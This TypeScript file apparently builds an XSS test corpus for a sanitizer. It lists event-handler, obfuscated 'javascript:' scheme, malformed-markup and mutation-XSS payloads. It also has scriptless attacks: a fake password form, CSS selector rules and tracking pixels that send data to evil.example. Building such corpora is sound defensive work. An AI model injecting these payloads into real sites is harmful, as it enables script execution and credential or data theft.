/** JavaScript whose execution a test would detect. */
const go = 'alert(1)'

const elements = [
  ...[
    'img',
    'svg',
    'body',
    'iframe',
    'video',
    'audio',
    'input',
    'details',
    'marquee',
    'object',
    'embed',
    'math',
    'p',
    'a',
  ],
  ...['select', 'textarea', 'keygen', 'isindex', 'style', 'link', 'table', 'td', 'button', 'dialog', 'x', 'custom-tag'],
]
const handlers = [
  ...[
    'onerror',
    'onload',
    'onclick',
    'onfocus autofocus',
    'ontoggle open',
    'onstart',
    'onanimationend',
    'onpointerover',
  ],
  ...[
    'onbeforeinput',
    'onscroll',
    'oncut',
    'ontransitionend',
    'onpageshow',
    'onfinish',
    'onwheel',
    'ONERROR',
    'oN\ferror',
  ],
]
const [handler = 'onerror'] = handlers

/** Event handlers on every element, and every handler on some, in quotes of each kind and without. */
const events = [
  ...elements.map((name) => `<${name} src=x ${handler}=${go}>x</${name}>`),
  ...handlers.flatMap((name) => [
    `<img src=x ${name}="${go}">`,
    `<p ${name}='${go}' style=color:red>x</p>`,
    `<span/${name}=${go}/>`,
    `<a href="/"${name}=${go}>x</a>`,
  ]),
]

/** Spellings that some browser has parsed as "javascript:". */
const schemes = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', 'java\tscript:', 'java\nscript:', 'java\rscript:'],
  ...[
    '\x01javascript:',
    '\x1fjavascript:',
    'javascript\t:',
    'javascript&colon;',
    'javascript&#58;',
    '&#106;avascript:',
  ],
  ...['&#x6A;avascript:', '&#0000106avascript:', 'java&Tab;script:', 'java&NewLine;script:', 'j&#97v&#97script:'],
  ...[
    'javascript://%0a',
    'javascript://x.example/%0d',
    'view-source:javascript:',
    'feed:javascript:',
    'jar:javascript:',
  ],
  ...[
    'vbscript:',
    'livescript:',
    'mocha:',
    'data:text/html,',
    'data:text/html;base64,PHNjcmlwdD4=',
    'data:image/svg+xml,',
  ],
  ...[
    'blob:',
    'file:///',
    'filesystem:',
    'about:',
    'ws:',
    'ftp:',
    'intent://',
    'ms-its:',
    '//evil.example/',
    '\\\\evil.example\\',
  ],
  ...['/\\evil.example/', '\\/evil.example/', '/\t/evil.example/', 'https:javascript:'],
]
const links = schemes.flatMap((scheme) => [
  `<a href="${scheme}${go}">x</a>`,
  `<a href='${scheme}${go}' rel=x>x</a>`,
  `<img src="${scheme}${go}">`,
  `<form action="${scheme}${go}"><button formaction="${scheme}${go}">x</button></form>`,
  `<p style="background:url(${scheme}${go})">x</p>`,
  `<svg><a xlink:href="${scheme}${go}"><text>x</text></a></svg>`,
])

/** Markup that parsers have parsed differently. */
const broken = [
  '<<script>alert(1)//<</script>',
  '<script/xss>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<script x>alert(1)</script y>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<\0script>alert(1)</script>',
  '<script>alert(1)',
  '<script src="data:,alert(1)"',
  '<img src=x onerror=alert(1)//',
  '<img """><script>alert(1)</script>">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  "<img src='x' onerror='alert(1)",
  '<a title="</a><script>alert(1)</script>">x</a>',
  '<p title=`><script>alert(1)</script>`>x</p>',
  '<a href=x:y onclick=alert(1)//">x</a',
  '<!--><script>alert(1)</script>-->',
  '<!--!><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<?php echo 1 ?><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<%= alert(1) %><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e<b onclick=alert(1)>x</b>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<i onclick=alert(1)>',
]

/** Mutation XSS: markup that becomes executable when it is parsed a second time. */
const mutating = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><style></noscript><img src=x onerror=alert(1)>',
  '<noembed><a title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><a title="</noframes><img src=x onerror=alert(1)>">',
  '<xmp><a title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><a title="</plaintext><img src=x onerror=alert(1)>">',
  '<iframe><a title="</iframe><img src=x onerror=alert(1)>">',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<textarea><a title="</textarea><img src=x onerror=alert(1)>">',
  '<select><style></select><img src=x onerror=alert(1)>',
  '<svg><foreignObject><p><iframe srcdoc="<script>alert(1)</script>"></p></foreignObject></svg>',
  '<svg><desc><table><thead><s></table></s><table><thead><s></table><img src=x onerror=alert(1)>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>',
  '<table><a href="javascript:alert(1)"><tr><td>x</a></table>',
  '<b><p></b><script>alert(1)</script></p>',
  '<a><a href="javascript:alert(1)">x</a></a>',
]

/** Attacks without scripts: covered pages, fake forms, outgoing requests, DOM clobbering. */
const withoutScript = [
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="import" href="https://evil.example/x.html">',
  '<style>@import "https://evil.example/x.css"; input[value^=a]{background:url(//evil.example/a)}</style>',
  '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</p>',
  '<p style="width:expression(alert(1));-moz-binding:url(//evil.example/x.xml#x);behavior:url(x.htc)">x</p>',
  '<p style="color:red;\\62 ackground:url(//evil.example)">x</p>',
  '<p style="/*x*/background-image:url(https://evil.example/pixel)">x</p>',
  '<p style="color:rgb(1,2,3);} body{display:none">x</p>',
  '<p style="color:var(--x);font-size:calc(1pt*999)">x</p>',
  '<form action="https://evil.example"><input name=password type=password><button>Go</button></form>',
  '<form id=x></form><button form=x formaction="https://evil.example">x</button>',
  '<img src="https://evil.example/pixel?x=1" width=1 height=1>',
  '<a href="/x" ping="https://evil.example" target="_blank" download>x</a>',
  '<form id="getElementById"><input name="nodeType"></form><img name="cookie"><a id="location">x</a>',
  '<p id="root" class="fixed inset-0" slot="x" is="x-y" data-x="1" contenteditable>x</p>',
  '<a href="#" xmlns="x" accesskey="x" tabindex="1" draggable="true">x</a>',
  '<video poster="//evil.example/x"><source src="//evil.example/x"><track src="//evil.example/x"></video>',
  '<object data="//evil.example/x"><param name=movie value=x></object><applet code=x></applet>',
  '<portal src="//evil.example"></portal><frameset><frame src="//evil.example"></frameset>',
  '<dialog open>Your password, please</dialog><marquee>x</marquee><blink>x</blink>',
]

/** Payloads of the known lists: event handlers, URL schemes, malformed and mutating markup, attacks without scripts. */
export const xssCorpus: readonly string[] = [...events, ...links, ...broken, ...mutating, ...withoutScript]
